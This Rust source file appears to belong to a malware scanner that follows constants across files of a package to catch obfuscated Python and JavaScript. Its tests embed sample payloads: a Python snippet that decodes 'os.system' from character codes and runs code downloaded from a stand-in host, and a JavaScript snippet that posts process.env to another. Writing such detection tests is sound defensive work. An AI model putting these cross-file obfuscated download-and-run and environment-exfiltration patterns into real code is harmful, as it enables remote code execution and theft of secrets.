//! Scripts that take what they call from constants of other files of their package: what each file gives, and a second
//! look with all of it.

use std::rc::Rc;

use super::flows;
use super::glance::Worth;
use super::machine::{Machine, Outcome};
use crate::analyze::Notes;
use crate::model::fact::{Constants, Literal, UnfinishedScript};
use crate::model::{Evidence, Fact, FactKind, FileKind, Finding};
use crate::parse::script::{Language, read};

/// Longest script in bytes that is looked at again, and longest that gives constants.
const MAX_UNFINISHED: usize = 64 << 10;
const MAX_GIVING: usize = 256 << 10;

/// Longest data file whose lists are given to scripts, and the longest text that stands for a number in them.
const MAX_DATA: usize = 64 << 10;
const NUMBER: usize = 6;
/// Fields of it that are looked at, fewest elements of a list, and shortest text.
const DATA: usize = 64;
const FEWEST: usize = 16;
const LONG: usize = 64;

/// Gives what a file of data holds that a script could make text of: lists of numbers, and long texts without blanks.
pub(super) fn give_data(bytes: &[u8], out: &mut Notes) {
    if bytes.len() > MAX_DATA {
        return;
    }
    let Ok(serde_json::Value::Object(fields)) = serde_json::from_slice(bytes) else { return };
    let number = |v: &serde_json::Value| match v {
        serde_json::Value::Number(n) => n.as_i64().map(Literal::Number),
        serde_json::Value::String(s) if s.len() <= NUMBER => Some(Literal::Text(s.as_str().into())),
        _ => None,
    };
    for (name, value) in fields.iter().take(DATA) {
        let literal = match value {
            serde_json::Value::Array(items) if items.len() >= FEWEST => {
                items.iter().map(number).collect::<Option<Vec<_>>>().map(|l| Literal::List(l.into()))
            }
            serde_json::Value::String(s) if s.len() >= LONG && !s.contains(' ') && !s.contains("://") => {
                Some(Literal::Text(s.as_str().into()))
            }
            _ => None,
        };
        if let Some(literal) = literal {
            out.facts.push(Fact::whole(FactKind::Constant(name.as_str().into(), Box::new(literal))));
        }
    }
}

/// What a file gives to the others of its package.
pub(super) fn give(kind: FileKind, text: &str, outcome: &Outcome, out: &mut Notes) {
    if !matches!(Language::of(kind), Some(Language::Python | Language::JavaScript)) {
        return;
    }
    if text.len() <= MAX_GIVING {
        let constants = outcome.constants.iter();
        out.facts.extend(
            constants.map(|(name, value)| Fact::whole(FactKind::Constant(name.clone(), Box::new(value.clone())))),
        );
    }
    if outcome.unnamed > 0 && text.len() <= MAX_UNFINISHED {
        let script = UnfinishedScript { kind, text: text.into() };
        out.facts.push(Fact::whole(FactKind::Unfinished(Box::new(script))));
    }
}

/// Follows a script again with the constants of its package. What was seen without them is seen again; the caller keeps
/// what is new.
#[must_use]
pub fn follow_again(script: &UnfinishedScript, constants: &Constants, own: &Rc<[Box<str>]>) -> Vec<Finding> {
    let Some(language) = Language::of(script.kind) else { return Vec::new() };
    let reach = super::reach(script.text.len(), Worth::Unfolding);
    let outcome =
        Machine::new(read(language, &script.text), reach).with_constants(Rc::clone(constants), Rc::clone(own)).run();
    let mut found: Vec<Finding> = flows::judge(&outcome, false)
        .iter()
        .map(|flow| {
            flow.finding(Evidence::note(format!("with constants of other files of the package: {}", flow.note)))
        })
        .collect();
    if outcome.cut_off {
        let note = "more steps, or more depth, than a script is followed for with constants of other files";
        found.push(flows::READ_IN_PART.finding(Evidence::note(note)));
    }
    found
}

#[cfg(test)]
mod tests {
    use super::super::machine::Reach;
    use super::*;

    fn constants_of(kind: FileKind, text: &str) -> Constants {
        let language = Language::of(kind).unwrap();
        let outcome = Machine::new(read(language, text), Reach { fuel: 100_000, more: 0 }).run();
        Rc::new(outcome.constants.into_iter().collect())
    }

    fn rules(kind: FileKind, text: &str, constants: Constants) -> Vec<&'static str> {
        let script = UnfinishedScript { kind, text: text.into() };
        follow_again(&script, &constants, &Rc::from([Box::from("own")])).iter().map(|f| f.rule.id).collect()
    }

    #[test]
    fn names_come_together_with_what_another_file_holds() {
        let words = "W = [111, 115, 115, 121, 115, 116, 101, 109]";
        let code = "from .words import W as w\nimport urllib.request\nt = ''.join(chr(c) for c in w)\n\
                    getattr(__import__(t[:2]), t[2:])(urllib.request.urlopen('https://h.invalid/x').read().decode())";
        let constants = constants_of(FileKind::Python, words);
        assert_eq!(constants.len(), 1);
        assert!(rules(FileKind::Python, code, Constants::default()).iter().all(|r| *r == "flow-calls-home"));
        assert!(rules(FileKind::Python, code, constants).contains(&"flow-download-run"));

        let places = "const PLACE = ['https', 'collect.invalid', 'POST', 'env'];\nmodule.exports = { PLACE };";
        let code = "const { PLACE } = require('./places');\nconst ask = require(PLACE[0]).request({ host: PLACE[1], method: PLACE[2] });\n\
                    ask.write(JSON.stringify(process[PLACE[3]]));";
        let constants = constants_of(FileKind::JavaScript, places);
        assert!(rules(FileKind::JavaScript, code, constants).contains(&"flow-environment-sent"));
    }

    #[test]
    fn short_and_long_constants_are_kept_where_they_are() {
        assert!(constants_of(FileKind::Python, "A = 1\nB = 'xy'\nC = [1, 2]\nD = [object()] * 9").is_empty());
        assert_eq!(constants_of(FileKind::Python, "A = 'https://h.invalid'\nB = b'abcdef'").len(), 2);
    }
}
